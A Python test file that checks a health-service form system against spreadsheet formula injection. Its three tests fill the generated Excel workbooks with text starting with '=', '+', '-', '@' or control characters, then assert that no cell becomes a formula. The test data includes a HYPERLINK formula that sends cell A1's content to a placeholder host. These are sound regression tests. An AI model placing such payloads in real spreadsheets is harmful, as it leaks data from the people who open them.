"""Issue 11, finding 2: text from an HF never becomes a formula in a workbook the service writes.

openpyxl makes a string that starts with `=` a formula cell. Every workbook the service builds
(the meeting packet's `oversikt.xlsx`, the figures' `statistikk.xlsx`, the economics template
when filled with values) is built here from data whose every text starts with `=`, `+`, `-`,
`@`, a tab or a carriage return before `=`, and read back twice: with openpyxl (no cell of type
formula) and raw (no `<f>` element in any sheet XML but the formulas the service means, listed
in `INTENDED_FORMULAS`).
"""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime, time, timedelta
from zoneinfo import ZoneInfo

import pytest
from lxml import etree
from openpyxl import load_workbook

from forms.catalog import get_form
from forms.templates import build, canonical_json
from processor.packets import MeetingInfo, PacketCase, meeting_packet
from processor.statistics import CaseHistory, Filters, Transition, compute, to_xlsx
from tests.fillers import sample_values

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
PREFIXES = ["=", "+", "-", "@", "\t=", "\r="]
PAYLOAD = 'HYPERLINK("https://example.invalid/?x="&A1,"Klikk")'
# The formulas the service writes on purpose: the economics template's budget cells (catalogue
# fields with a `formula`), one per budget year; no other workbook has any.
INTENDED_FORMULAS = {
    "minihta-okonomi": {f"okonomi.budsjett.ar{n}" for n in range(1, 6)},
}


def _nasty(i: int) -> str:
    return PREFIXES[i % len(PREFIXES)] + PAYLOAD


def _formula_cells(data: bytes) -> dict[str, set[str]]:
    """Per sheet XML part, the references of cells holding an `<f>` element (raw read)."""
    found: dict[str, set[str]] = {}
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if not name.startswith("xl/worksheets/"):
                continue
            root = etree.fromstring(zf.read(name))
            cells = {f.getparent().get("r") for f in root.iter(f"{{{MAIN}}}f")}
            if cells:
                found[name] = set(cells)
    return found


def _openpyxl_formulas(data: bytes) -> set[tuple[str, str]]:
    wb = load_workbook(io.BytesIO(data))
    return {
        (ws.title, cell.coordinate)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    }


def _texts(data: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(data))
    return [
        cell.value
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def _del2_case(n: int) -> PacketCase:
    form = get_form("tilgang-del2")
    values = sample_values("tilgang-del2")
    i = n
    for fid, value in list(values.items()):
        found = form.lookup(fid)
        field = found[0] if found else None
        if isinstance(value, str) and field is not None and field.type in ("text", "textarea"):
            values[fid] = _nasty(i)
            i += 1
    return PacketCase(
        id=f"2026-10-0{n}-OUS-KREFT",
        form_id="tilgang-del2",
        data=canonical_json(form, values),
        price_check={"stated_per_month": 1.0, "confirmed_per_month": 2.0, "corrected": False},
        notes=[_nasty(n)],
    )


def test_meeting_packet_overview_has_no_formula_from_hf_text() -> None:
    meeting = MeetingInfo("=MOTE", date(2026, 12, 7), time(9, 0), [(_nasty(0), "OUS", "Leder")])
    cases = [_del2_case(n) for n in range(1, 7)]
    packet = meeting_packet(meeting, "=Kari & co", "kari", cases, date(2026, 12, 2))
    with zipfile.ZipFile(io.BytesIO(packet)) as zf:
        overview = zf.read("oversikt.xlsx")
    assert _formula_cells(overview) == {}
    assert _openpyxl_formulas(overview) == set()
    texts = _texts(overview)
    # before the fix, Oversikt!D3 (a diagnosis) was a formula; now the text is kept as written
    assert sum(t.endswith(PAYLOAD) for t in texts) >= len(cases)
    for prefix in PREFIXES:
        assert any(t.startswith(prefix + "HYPERLINK") for t in texts), repr(prefix)


def _minihta(i: int, specialty: str, hf: str = "OUS") -> CaseHistory:
    at = datetime(2025, 3, 2, 9, 0, tzinfo=ZoneInfo("Europe/Oslo")) + timedelta(days=i)
    return CaseHistory(
        id=f"MMV-2025-{i:03d}",
        form_type="minihta",
        hf=hf,
        fagomrade=specialty,
        created=at,
        transitions=[Transition(at, None, "mottatt")],
    )


@pytest.mark.parametrize("echoed", [None, "=1+1", "\t=SUM(A1)", "@cmd"])
def test_figures_xlsx_has_no_formula_from_specialties_or_the_filter(echoed: str | None) -> None:
    cases = [_minihta(i, _nasty(i % 12)) for i in range(24)]
    cases += [_minihta(100 + i, echoed, hf="=HF") for i in range(3) if echoed]
    stats = compute(cases, Filters(fagomrade=echoed), regions={"OUS": "=HSO"})
    data = to_xlsx(stats)
    assert _formula_cells(data) == {}
    assert _openpyxl_formulas(data) == set()
    texts = _texts(data)
    if echoed:
        assert echoed in texts  # the filter row: the value as text
    else:
        assert {_nasty(i) for i in range(12)} <= set(texts)  # Fagområde!A2 … as text


def test_economics_template_keeps_only_its_own_formulas() -> None:
    form = get_form("minihta-okonomi")
    values = sample_values("minihta-okonomi")
    for i, (fid, value) in enumerate(list(values.items())):
        found = form.lookup(fid)
        field = found[0] if found else None
        if isinstance(value, str) and field is not None and field.type in ("text", "textarea"):
            values[fid] = _nasty(i)
    data = build("minihta-okonomi", "xlsx", values)
    wb = load_workbook(io.BytesIO(data))
    intended = {
        wb.defined_names[fid].attr_text.split("!")[1].replace("$", "")
        for fid in INTENDED_FORMULAS["minihta-okonomi"]
    }
    assert _formula_cells(data) == {"xl/worksheets/sheet1.xml": intended}
    assert {ref for _, ref in _openpyxl_formulas(data)} == intended
    assert any(t.endswith(PAYLOAD) for t in _texts(data))
